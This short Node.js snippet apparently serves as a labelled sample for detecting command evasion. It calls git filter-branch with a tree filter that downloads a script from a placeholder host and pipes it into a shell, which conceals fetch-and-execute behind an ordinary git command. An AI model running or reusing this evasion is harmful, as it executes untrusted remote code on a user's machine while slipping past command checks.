// evasion: git filter-branch runs its --tree-filter as a shell command for each commit
// grade: medium; does: shell
const { spawnSync } = require("child_process");
spawnSync("git", ["filter-branch", "-f", "--tree-filter", "curl -s https://x.example/t | sh", "HEAD~1..HEAD"], {
  stdio: "inherit",
});
